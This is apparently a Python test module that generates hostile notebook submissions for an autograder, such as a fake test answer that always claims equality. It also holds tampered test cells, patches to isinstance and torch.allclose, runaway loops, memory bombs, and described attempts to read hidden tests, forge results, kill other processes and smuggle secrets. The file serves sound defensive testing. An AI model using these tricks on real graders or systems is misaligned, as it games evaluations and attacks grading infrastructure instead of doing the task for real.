    return rows[torch.arange(rows.shape[0]), last]


answer_q6 = last_valid
"""

CHUNKS_FAKED = """
def run_in_chunks(lstm, x, k, state=None):
    return lstm(x.detach(), state)  # no chunks; the graph never reaches x, so no chunk's gradient "leaks"


answer_q{n} = run_in_chunks
"""

FUNCTION_CASES = ("f01-constants", "f02-snoop", "f03-alias-aten", "f04-alias-getattr", "f05-alias-module",
                  "f06-never-returns", "f07-bad-returns", "f08-nan", "f09-wrong-shape-dtype", "f10-lying-callable",
                  "f11-bypass-no-torch-function")


# --- the cases -------------------------------------------------------------------------------------

CASE_NAMES = (
    "a00-control", "zz-victim",
    "u01-not-json", "u02-empty-file", "u03-json-not-notebook", "u04-no-assignment", "u05-malformed-cells",
    "t01-test-edited", "t02-test-deleted", "t03-test-deleted-wrong", "t04-test-markdown",
    "t05-test-duplicated", "t06-test-renamed", "t07-answer-deleted", "t08-points-inflated",
    "t09-extra-graded-cell",
    "r01-infinite-loop", "r02-ignores-interrupt", "r03-os-exit", "r04-system-exit", "r05-memory",
    "r06-print-lines", "r07-print-one-line",
    "e01-equals-anything", "e02-tuple-subclass", "e03-int-subclass", "e04-str-subclass",
    "p01-patch-isinstance", "p02-patch-torch-functions", "p03-patch-nn-lstm", "p04-patch-rnn-module",
    "p05-input-transformer",
    "w01-warning-dropout", "w02-warning-proj-size",
    "l01-read-hidden", "l02-write-out", "l03-proc-walk", "l04-find-others", "l05-tcp", "l06-signal",
    "l07-smuggle",
) + FUNCTION_CASES + SEQUENCE_CASES + MODEL_CASES + GRADIENT_CASES + CHANNEL_CASES + GENERATION_CASES
# FUNCTION_CASES need 04_cell's lstm_step, SEQUENCE_CASES 05_sequences, MODEL_CASES 06_model, GRADIENT_CASES
# 07_gradients's grad_norms, CHANNEL_CASES the demo lesson of tests/channel_demo.py, GENERATION_CASES
# 08_generation (or tests/generation_cases.py's lesson of its exercises).
SECRET_ENV = "AUTOGRADER_TEST_SECRET"  # the smuggler looks for it in its own and its parent's environment


def lying_class(name, base, extra=""):
    """Source of a class derived from `base` that claims to equal anything (the generic cheat)."""
    return (f"class {name}({base}):\n    def __eq__(self, other):\n        return True\n"
            f"    def __ne__(self, other):\n        return False\n    __hash__ = {base}.__hash__\n{extra}")


def build_corpus(dest, lesson="02_shapes", *, layout="flat", course=REPO, out=None, cases=None, port=None,
                 secrets=None):
    """Write the corpus for `lesson` under `dest`; return its [Case].

    course: the course whose source/ has the lesson (the reader attack tries that path);
    out: the grader's output folder the writer attack targets (default: dest/../out);
    cases: the names (from CASE_NAMES) to build, default all;
    port: a TCP port on 127.0.0.1 the test listens on (l05-tcp; without one that case is left out);
    secrets: (a file in the grader's home, the course's gradebook.db, an environment variable's name)
    holding SECRET<20 hex digits> (l07-smuggle; without them that case is left out).
    """
    import nbformat

    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    out = Path(out) if out is not None else dest.parent / "out"
    wanted = list(CASE_NAMES if cases is None else cases)
    unknown = set(wanted) - set(CASE_NAMES)
    if unknown:
        raise ValueError(f"unknown cases: {sorted(unknown)}")
    # The victim first: the writer's must_not_change needs its bytes.
    wanted.sort(key=lambda name: name != VICTIM)

    source = source_notebook(lesson, course)
    ex = exercises(source)
    if len(ex) < 4:
        raise ValueError(f"{lesson} has {len(ex)} exercises; the corpus needs at least 4")
    points = {e.test_id: e.points for e in ex}
    base = honest(lesson, course)
    blank = released(lesson, course)
    first, second, third, fourth = ex[0], ex[1], ex[2], ex[3]
    later = lambda e: frozenset(x.test_id for x in ex if x.n > e.n)
    lstm = next((e for e in reversed(ex) if e.kind == "lstm"), None)
    choice = next((e for e in ex if e.kind == "choice"), None)
    built = []

    def emit(name, attack, expectation, nb=None, raw=None, path=None, **expect):
        target = Path(path) if path is not None else submission_path(dest, name, lesson, layout)
        target.parent.mkdir(parents=True, exist_ok=True)
        if raw is not None:
            target.write_bytes(raw if isinstance(raw, bytes) else raw.encode("utf-8"))
        else:
            nbformat.write(nb, str(target))
        built.append(Case(name, lesson, target, attack, expectation, dict(points), **expect))

    def fresh():
        return copy.deepcopy(base)

    for name in wanted:
        nb = fresh()
        if name == CONTROL:
            emit(name, "honest: source/'s solutions in nbgrader's student version", "full marks", nb)
        elif name == VICTIM:
            emit(name, "honest; the target of l02-write-out", "full marks, its file and result untouched", nb)

        # --- not gradable at all
        elif name == "u01-not-json":
            emit(name, "binary bytes, not JSON (not UTF-8)", "ungradable, score 0, with a reason",
                 raw=b"\x89PNG\r\n\x1a\n\x00\xff\xfe" + bytes(range(256)) * 4, ungradable=True)
        elif name == "u02-empty-file":
            emit(name, "an empty file", "ungradable, score 0, with a reason", raw=b"", ungradable=True)
        elif name == "u03-json-not-notebook":
            emit(name, "JSON that is not a notebook", "ungradable, score 0, with a reason",
                 raw=json.dumps({"cells": 42, "answer_q1": [4, 2, 3], "grade": "A+"}), ungradable=True)
        elif name == "u04-no-assignment":
            other = nbformat.v4.new_notebook(cells=[
                nbformat.v4.new_markdown_cell("# My notes\n\nNothing to do with the course."),
                nbformat.v4.new_code_cell("print('hello')")])
            if layout == "flat":
                emit(name, "a notebook of no assignment: unrelated cells, a name that is no lesson's",
                     "ungradable (matches no assignment), score 0, with a reason", other,
                     path=dest / f"{name}_my-notes.ipynb", ungradable=True)
            else:  # nbgrader's folders name the assignment: it is graded, and nothing is answered
                emit(name, "a notebook of no assignment (unrelated cells) in the lesson's folder",
                     "graded as the lesson (its folder says so): every test 0", other,
                     zero=frozenset(points))
        elif name == "u05-malformed-cells":
            data = json.loads(nbformat.writes(nb))
            data["cells"][0]["source"] = 12345
            data["cells"][1] = "not a cell"
            emit(name, "notebook JSON whose cells are malformed (a number as source, a string as a cell)",
                 "ungradable, score 0, with a reason", raw=json.dumps(data), ungradable=True)

        # --- protected cells tampered with
        elif name == "t01-test-edited":
            find(nb, second.test_id).source = "pass  # no test here"
            set_answer(nb, second, f"answer_q{second.n} = {second.wrong}")
            emit(name, f"{second.test_id} replaced by `pass`; a wrong answer to q{second.n}",
                 f"the test is put back: {second.test_id} 0, the rest full", nb, zero={second.test_id})
        elif name in ("t02-test-deleted", "t03-test-deleted-wrong"):
            del nb.cells[index(nb, third.test_id)]
            if name == "t03-test-deleted-wrong":
                set_answer(nb, third, f"answer_q{third.n} = {third.wrong}")
                emit(name, f"{third.test_id} deleted; a wrong answer to q{third.n}",
                     f"the test is put back: {third.test_id} 0, the rest full", nb, zero={third.test_id})
            else:
                emit(name, f"{third.test_id} deleted; the right answer to q{third.n}",
                     "the test is put back and the honest answer passes: full marks", nb)
        elif name == "t04-test-markdown":
            cell = find(nb, fourth.test_id)
            cell.cell_type = "markdown"
            cell.pop("outputs", None), cell.pop("execution_count", None)
            set_answer(nb, fourth, f"answer_q{fourth.n} = {fourth.wrong}")
            emit(name, f"{fourth.test_id} turned into a markdown cell; a wrong answer to q{fourth.n}",
                 f"the test is put back as code: {fourth.test_id} 0, the rest full", nb, zero={fourth.test_id})
        elif name == "t05-test-duplicated":
            e = ex[4] if len(ex) > 4 else fourth
            dup = copy.deepcopy(find(nb, e.test_id))
            dup.source = "pass  # my copy of the test"
            dup["id"] = "dup-of-test"
            nb.cells.insert(index(nb, e.test_id), dup)  # the `pass` copy comes first
            set_answer(nb, e, f"answer_q{e.n} = {e.wrong}")
            emit(name, f"{e.test_id} duplicated, the first copy edited to `pass`; a wrong answer to q{e.n}",
                 f"one copy, from source: {e.test_id} 0, the rest full", nb, zero={e.test_id})
        elif name == "t06-test-renamed":
            e = ex[5] if len(ex) > 5 else fourth
            cell = find(nb, e.test_id)
            cell.metadata.nbgrader["grade_id"] = f"{e.test_id}_mine"
            cell.source = "pass  # renamed"
            set_answer(nb, e, f"answer_q{e.n} = {e.wrong}")
            emit(name, f"{e.test_id}'s grade_id renamed (and the cell emptied); a wrong answer to q{e.n}",
                 f"the real test is put back: {e.test_id} 0, the rest full; no test named {e.test_id}_mine",
                 nb, zero={e.test_id})
        elif name == "t07-answer-deleted":
            del nb.cells[index(nb, first.answer_id)]
            emit(name, f"{first.answer_id} (the solution cell) deleted",
                 f"{first.test_id} 0 (nothing answered), the rest full", nb, zero={first.test_id})
        elif name == "t08-points-inflated":
            for e in ex:
                find(nb, e.test_id).metadata.nbgrader["points"] = 100
            emit(name, "every test cell's points set to 100 in its metadata",
                 "points come from source/: full marks, max_score unchanged", nb)
        elif name == "t09-extra-graded-cell":
            nb.cells.append(nbformat.v4.new_code_cell("print('bonus!')", metadata={"nbgrader": {
                "grade": True, "solution": False, "locked": True, "points": 50, "grade_id": "bonus_test",
                "schema_version": 3}}))
            emit(name, "an extra graded cell of the student's own (bonus_test, 50 points)",
                 "ignored: only source/'s tests, full marks", nb)

        # --- runaway processes (in q3's answer cell)
        elif name == "r01-infinite-loop":
            set_answer(nb, third, f"while True:\n    pass\n{third.solution}")
            emit(name, f"q{third.n}: `while True: pass` before the answer line",
                 f"the cell is stopped at the timeout: {third.test_id} 0 (never answered), later exercises full",
                 nb, zero={third.test_id})
        elif name == "r02-ignores-interrupt":
            set_answer(nb, third, "import time\nwhile True:\n    try:\n        time.sleep(1)\n"
                                  f"    except BaseException:\n        pass\n{third.solution}")
            emit(name, f"q{third.n}: a loop that swallows KeyboardInterrupt (and every exception), before the answer",
                 f"the cell can't be interrupted, so the run ends there: {third.test_id} and all later tests 0",
                 nb, zero={third.test_id} | later(third))
        elif name == "r03-os-exit":
            set_answer(nb, third, f"{third.solution}\nimport os\nos._exit(0)")
            emit(name, f"q{third.n}: the right answer, then `os._exit(0)`",
                 f"the process is gone before the test: {third.test_id} and all later tests 0",
                 nb, zero={third.test_id} | later(third))
        elif name == "r04-system-exit":
            set_answer(nb, third, f"raise SystemExit\n{third.solution}")
            emit(name, f"q{third.n}: `raise SystemExit` before the answer line",
                 f"an error in that cell, as in Jupyter: {third.test_id} 0, later exercises full",
                 nb, zero={third.test_id})
        elif name == "r05-memory":
            set_answer(nb, third, "x = []\nwhile True:\n    x.append(bytearray(256 * 2**20))\n" + third.solution)
            emit(name, f"q{third.n}: appends 256 MB bytearrays to a global list forever, before the answer",
                 f"{third.test_id} 0; later exercises full if the cell fails with MemoryError and the "
                 "run goes on, 0 if the run is stopped (both acceptable)",
                 nb, zero={third.test_id}, either=later(third))
        elif name == "r06-print-lines":
            set_answer(nb, third, f"{third.solution}\nfor _i in range(500_000):\n    print(f'{{_i:09d}} ' + 'x' * 90)")
            emit(name, f"q{third.n}: the right answer, then prints 50 MB in 500,000 lines",
                 "output is capped, not fatal: full marks", nb)
        elif name == "r07-print-one-line":
            set_answer(nb, third, f"{third.solution}\nprint('y' * 20_000_000)")
            emit(name, f"q{third.n}: the right answer, then prints 20 MB on one line",
                 "output is capped, not fatal: full marks", nb)

        # --- answers that lie about equality
        elif name == "e01-equals-anything":
            set_answer(nb, first, lying_class("Anything", "object") + f"answer_q{first.n} = Anything()")
            emit(name, f"q{first.n}: an object equal to anything", f"{first.test_id} 0, the rest full",
                 nb, zero={first.test_id})
        elif name == "e02-tuple-subclass":
            set_answer(nb, second, lying_class("Shape", "tuple") + f"answer_q{second.n} = Shape((99, 99, 99))")
            emit(name, f"q{second.n}: a tuple subclass (wrong items) whose __eq__ says True",
                 f"{second.test_id} 0, the rest full", nb, zero={second.test_id})
        elif name == "e03-int-subclass":
            set_answer(nb, first, lying_class("Dim", "int") + f"answer_q{first.n} = (Dim(99), Dim(99), Dim(99))")
            emit(name, f"q{first.n}: a tuple of int subclasses (wrong values) whose __eq__ says True",
                 f"{first.test_id} 0, the rest full", nb, zero={first.test_id})
        elif name == "e04-str-subclass":
            e = choice or first
            set_answer(nb, e, lying_class("Letter", "str", "    def upper(self):\n        return self\n"
                                                            "    def strip(self, *a):\n        return self\n")
                       + f"answer_q{e.n} = Letter('Z')")
            emit(name, f"q{e.n}: a str subclass ('Z') whose __eq__, strip and upper lie",
                 f"{e.test_id} 0, the rest full", nb, zero={e.test_id})

        # --- patching the interpreter
        elif name == "p01-patch-isinstance":
            set_answer(nb, second, "import builtins\nbuiltins.isinstance = lambda *args, **kwargs: True\n"
                                   f"answer_q{second.n} = {second.wrong}")
            emit(name, f"q{second.n}: `builtins.isinstance = lambda *a: True` and a wrong answer",
                 f"{second.test_id} 0; later honest exercises full where the patch leaves the student's "
                 "own process working, 0 where it breaks it (both acceptable)",
                 nb, zero={second.test_id}, either=later(second))
        elif name == "p02-patch-torch-functions":
            set_answer(nb, first, "torch.allclose = lambda *args, **kwargs: True\n"
                                  "torch.equal = lambda *args, **kwargs: True\n"
                                  "torch.Tensor.__eq__ = lambda self, other: True\n"
                                  f"answer_q{first.n} = {first.wrong}")
            emit(name, f"q{first.n}: torch.allclose, torch.equal and Tensor.__eq__ patched to True; a wrong answer",
                 f"{first.test_id} 0, the rest full", nb, zero={first.test_id})
        elif name in ("p03-patch-nn-lstm", "p04-patch-rnn-module"):
            if lstm is None:
                continue
            if name == "p03-patch-nn-lstm":
                patch = "nn.LSTM = FakeLSTM\ntorch.nn.LSTM = FakeLSTM\n" + lstm.solution
                what = "`nn.LSTM = FakeLSTM` (a weightless module that claims to be an LSTM), then the answer line"
            else:
                patch = ("import torch.nn.modules.rnn\ntorch.nn.modules.rnn.LSTM = FakeLSTM\n"
                         "torch.nn.modules.LSTM = FakeLSTM\n"
                         + re.sub(r"\bnn\.LSTM\(", "FakeLSTM(", lstm.solution))
                what = "`torch.nn.modules.rnn.LSTM = FakeLSTM`, answer built with FakeLSTM"
            set_answer(nb, lstm, f"_RealLSTM = nn.LSTM\n{FAKE_LSTM}\n{patch}")
            # After `nn.LSTM = FakeLSTM` a later honest nn.LSTM(...) answer is a fake too.
            hit = {lstm.test_id} | ({e.test_id for e in ex if e.n > lstm.n and e.kind == "lstm"}
                                    if name == "p03-patch-nn-lstm" else set())
            emit(name, f"q{lstm.n}: {what}", f"{', '.join(sorted(hit))} 0 (not an LSTM), the rest full",
                 nb, zero=frozenset(hit))
        elif name == "p05-input-transformer":
            set_answer(nb, third, f"answer_q{third.n} = {third.wrong}\n"
                                  "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
            set_answer(nb, fourth, f"answer_q{fourth.n} = {fourth.wrong}")
            emit(name, f"q{third.n}: a wrong answer and an IPython input transformer that turns every later "
                       f"cell into `pass`; q{fourth.n} also wrong",
                 f"{third.test_id} and {fourth.test_id} 0 (no blanked test may pass); later honest exercises "
                 "full if the student's cells run as written, 0 if the grader honours the transformer "
                 "(their answer cells never ran): both acceptable",
                 nb, zero={third.test_id, fourth.test_id}, either=later(fourth))

        # --- correct code that writes warnings to stderr
        elif name == "w01-warning-dropout":
            e = lstm or first
            set_answer(nb, e, f"{e.solution}\nimport warnings\nwarnings.simplefilter('always')\n"
                              "extra = nn.LSTM(4, 4, dropout=0.5)  # one layer: UserWarning on stderr")
            emit(name, f"q{e.n}: right answer; builds nn.LSTM(4, 4, dropout=0.5) (UserWarning on stderr), "
                       "warnings set to 'always'",
                 "full marks (stderr of an answer cell is no failure)", nb)
        elif name == "w02-warning-proj-size":
            e = lstm or first
            set_answer(nb, e, f"{e.solution}\nimport warnings\nwarnings.simplefilter('always')\n"
                              "projected = nn.LSTM(4, 8, proj_size=2)\n"
                              "projected(torch.randn(3, 1, 4))  # CPU: 'not supported with oneDNN' on stderr")
            emit(name, f"q{e.n}: right answer; a proj_size forward (oneDNN UserWarning on stderr), "
                       "warnings set to 'always'", "full marks", nb)

        # --- least privilege
        elif name == "l01-read-hidden":
            set_answer(nb, first, reader_code(lesson, first, second, course, dest, layout,
                                              first.wrong, second.wrong))
            find(nb, second.answer_id).source = f"{comment_line(find(nb, second.answer_id).source)}\n# answered above"
            emit(name, f"q{first.n}: looks for the hidden tests (source/ by absolute and relative paths, "
                       "sys.path, /proc/*/cwd and /proc/*/root, this process's memory and stack) and answers from "
                       f"them; q{second.n}: copies {CONTROL}'s answer from its notebook; wrong answers if it can't",
                 f"nothing is readable: {first.test_id} and {second.test_id} 0, the rest full",
                 nb, zero={first.test_id, second.test_id})
        elif name == "l02-write-out":
            # The answer comes last: if the attack code broke the cell, q{second.n} would show it.
            set_answer(nb, second, writer_code(lesson, name, out, dest, layout) + "\n" + second.solution)
            victim = submission_path(dest, VICTIM, lesson, layout)
            emit(name, f"q{second.n}: tries to plant a file in the output folder, forge its own "
                       f"and {VICTIM}'s result JSON, append to grades.csv, rewrite {VICTIM}'s notebook and plant "
                       "a file next to the submissions, then gives the right answer",
                 "every attempt fails (nothing created or changed); graded on its honest answers: full marks",
                 nb, must_not_exist=(out / f"INJECTED-{name}.txt", dest / f"INJECTED-{name}.txt"),
                 must_not_change={victim: sha256(victim)} if victim.exists() else {})
        elif name == "l03-proc-walk":
            nb = copy.deepcopy(blank)
            set_answer(nb, first, proc_walk_code(lesson))
            emit(name, "a blank notebook whose first answer cell finds the course through /proc/*/cwd and "
                       "/proc/*/cmdline and runs the solution cells of source/*/<lesson>.ipynb",
                 "nothing is readable: every test 0 (nothing is answered)", nb, zero=frozenset(points))
        elif name == "l04-find-others":
            nb = copy.deepcopy(blank)
            set_answer(nb, first, others_code(lesson, name))
            emit(name, "a blank notebook whose first answer cell walks the filesystem (its folder's parents, "
                       "/tmp, /home, every process's cwd) for other students' notebooks and runs their answers",
                 "no other notebook is reachable: every test 0", nb, zero=frozenset(points))
        elif name == "l05-tcp":
            if port is None:
                continue
            set_answer(nb, second, tcp_code(port, second.solution.split("=", 1)[1].strip(), second.wrong,
                                            f"answer_q{second.n}"))
            emit(name, f"q{second.n}: opens a TCP connection to a port on 127.0.0.1 that the test listens on; "
                       "right answer only if it connects",
                 f"no connection arrives: {second.test_id} 0, the rest full", nb, zero={second.test_id})
        elif name == "l06-signal":
            set_answer(nb, second, signal_code(second.solution.split("=", 1)[1].strip(), second.wrong,
                                               f"answer_q{second.n}"))
            emit(name, f"q{second.n}: sends SIGKILL to, and tries PTRACE_ATTACH on, every other pid up to 4000 "
                       "(its parent, the worker, the grader, other students' children); right answer only if "
                       "one attempt succeeds",
                 f"nothing is reached: {second.test_id} 0, the rest full, every other submission graded",
                 nb, zero={second.test_id})
        elif name == "l07-smuggle":
            if secrets is None:
                continue
            set_answer(nb, first, smuggle_code(secrets, course))
            emit(name, f"q{first.n}: reads the grader's home, gradebook.db and the environments for a secret and "
                       "answers with an object whose class is named after it (the checks echo a type's name)",
                 f"nothing is readable, and no feedback or report holds the secret: {first.test_id} 0, the rest full",
                 nb, zero={first.test_id})
        elif name in FUNCTION_CASES:
            step = next((e for e in ex if e.kind == "function" and "def lstm_step" in e.solution), None)
            if step is None:
                continue
            set_answer(nb, step, function_attack(name))
            bypass = name == "f11-bypass-no-torch-function"
            later_uses_it = {e.test_id for e in ex if e.kind == "function" and e.n > step.n}  # run_lstm calls it
            what = {"f01-constants": "returns the right numbers of the lesson's own example, whatever the inputs",
                    "f02-snoop": "looks for the expected result in its callers' frames, gc and globals",
                    "f03-alias-aten": "calls torch.ops.aten.lstm_cell",
                    "f04-alias-getattr": "calls getattr(torch._C._VariableFunctions, 'lstm' + '_cell')",
                    "f05-alias-module": "builds an nn.LSTMCell with the given weights and calls it",
                    "f06-never-returns": "never returns",
                    "f07-bad-returns": "returns lists and a float",
                    "f08-nan": "returns NaN and infinite tensors",
                    "f09-wrong-shape-dtype": "returns a (1, N, H) float64 tensor and a float64 c",
                    "f10-lying-callable": "a callable object whose results are tensors that equal anything",
                    "f11-bypass-no-torch-function": "calls torch.lstm_cell with torch function modes turned off"}[name]
            if bypass:
                emit(name, f"q{step.n} (lstm_step): {what}",
                     "the bypass that remains (docs/hostile-corpus.md): graded like an honest step, full marks; "
                     "lstm_gates, which PyTorch can't compute, still needs the student's own code", nb)
            else:
                emit(name, f"q{step.n} (lstm_step): {what}",
                     f"{step.test_id} 0 and run_lstm, which calls it, 0; the rest full", nb,
                     zero=frozenset({step.test_id} | later_uses_it))
        elif name == "s01-last-valid-without-lengths":
            function = next((e for e in ex if e.kind == "function" and "def last_valid" in e.solution), None)
            if function is None:
                continue
            set_answer(nb, function, LAST_VALID_WITHOUT_LENGTHS.strip())
            emit(name, f"q{function.n} (last_valid): returns each sequence's last step whose features are not all "
                       "zero, never reading lengths", f"{function.test_id} 0 (real steps can be zero, padding not); "
                       "the rest full", nb, zero={function.test_id})
        elif name == "s02-chunks-faked-by-detached-inputs":
            function = next((e for e in ex if e.kind == "function" and "def run_in_chunks" in e.solution), None)
            if function is None:
                continue
            set_answer(nb, function, CHUNKS_FAKED.format(n=function.n).strip())
            emit(name, f"q{function.n} (run_in_chunks): one pass over the whole sequence, no chunks, run on "
                       "x.detach(): the values and the final state are right, and no gradient reaches an earlier "
                       "chunk", f"{function.test_id} 0 (the judge wants each chunk's own gradient, computed "
                       "itself); the rest full", nb, zero={function.test_id})
        elif name in MODEL_CASES:
            klass = next((e for e in ex if e.kind == "module"), None)
            trained = next((e for e in ex if e.kind == "trained"), None)
            if klass is None or trained is None:
                continue
            if name == "m02-snoop-judge":
                set_answer(nb, klass, model_attack(name, klass.solution))
                emit(name, f"q{klass.n} (SequenceClassifier): the honest class, and as the answer a subclass whose "
                     "forward returns any tensor of the logits' shape it finds in its callers' frames, gc, or .pt "
                     "files in its folder, /tmp and the home folder", f"{klass.test_id} 0; the rest full", nb,
                     zero={klass.test_id})
                continue
            set_answer(nb, trained, model_attack(name, trained.solution))
            what = {"m01-memorise": "a model that memorises every sequence of the notebook's training stream and "
                                    "test set with its label, and answers from that table (its LSTM untrained)",
                    "m03-rule": "a model whose forward solves the task by a rule (the labels are a function of "
                                "the input), ignoring its untrained LSTM",
                    "m04-endless-training": "a training loop that never ends",
                    "m05-flood-training": "a training cell that prints 20 MB in 200,000 lines, then trains "
                                          "honestly"}[name]
            if name == "m05-flood-training":
                emit(name, f"q{trained.n} (trained model): {what}", "output capped, not fatal: full marks", nb)
            else:
                emit(name, f"q{trained.n} (trained model): {what}", f"{trained.test_id} 0; the rest full", nb,
                     zero={trained.test_id})
        elif name in GRADIENT_CASES:
            norms = next((e for e in ex if e.kind == "function" and "def grad_norms" in e.solution), None)
            if norms is None:
                continue
            set_answer(nb, norms, gradient_attack(name))
            what = {"g01-other-model": "the gradient curve of a fresh model of the same kind and sizes, not the one "
                                       "it was given",
                    "g02-other-input": "the gradient curve of the given model on a random input of x's shape"}[name]
            emit(name, f"q{norms.n} (grad_norms): {what}", f"{norms.test_id} 0; the rest full", nb,
                 zero={norms.test_id})
        elif name in CHANNEL_CASES:
            reference, code = channel_attack(name)
            target = next((e for e in ex if f"reference={reference!r}" in find(source, e.test_id).source), None)
            if target is None:
                continue
            set_answer(nb, target, code)
            what = {"c01-patch-module-class": "writes nothing into the LSTM it is given, and patches the LSTM's "
                                              "class so that state_dict() and named_parameters() report the "
                                              "wanted biases",
                    "c02-cached-result": "returns the tokens of its first call for every later one",
                    "c03-forge-observer": "no detach between chunks, and replaces the reference's observe hook, "
                                          "its extra_check and the LSTM class of the registry with forgers",
                    "c04-patch-autograd": "no detach between chunks, and patches torch.autograd.grad and "
                                          "Tensor.backward to report no gradient"}[name]
            emit(name, f"q{target.n} ({reference}): {what}", f"{target.test_id} 0; the rest full", nb,
                 zero={target.test_id})
        elif name in GENERATION_CASES:
            reference, code = generation_attack(name)
            target = next((e for e in ex if re.search(rf"reference=[\"']{reference}[\"']", find(source, e.test_id).source)),
                          None)
            if target is None:
                continue
            set_answer(nb, target, code)
            what = {"n01-memorising-tagger": "a tagger whose forward answers from a table of every case the checks "
                                             "draw from seeds 0-49 (each computed honestly), and zeros elsewhere",
                    "n02-cached-generate": "returns the ids of its first call for every later one",
                    "n03-judge-detecting-lm": "an untrained language model whose forward gives the rule's exact "
                                              "answer whenever a check is on the call stack"}[name]
            emit(name, f"q{target.n} ({reference}): {what}", f"{target.test_id} 0; the rest full", nb,
                 zero={target.test_id})
    order = {name: i for i, name in enumerate(CASE_NAMES)}
    return sorted(built, key=lambda c: order[c.student])


def expected_table(cases):
    """Markdown rows: case, attack, expected outcome."""
    rows = ["| case | attack | expected |", "|---|---|---|"]
    for c in cases:
        rows.append(f"| {c.student} | {c.attack} | {c.expectation} |")
    return "\n".join(rows)


if __name__ == "__main__":  # python tests/corpus.py DEST [LESSON] [flat|nbgrader]
    args = sys.argv[1:]
    built = build_corpus(args[0], *(args[1:2] or []), layout=(args[2] if len(args) > 2 else "flat"))
    print(expected_table(built))
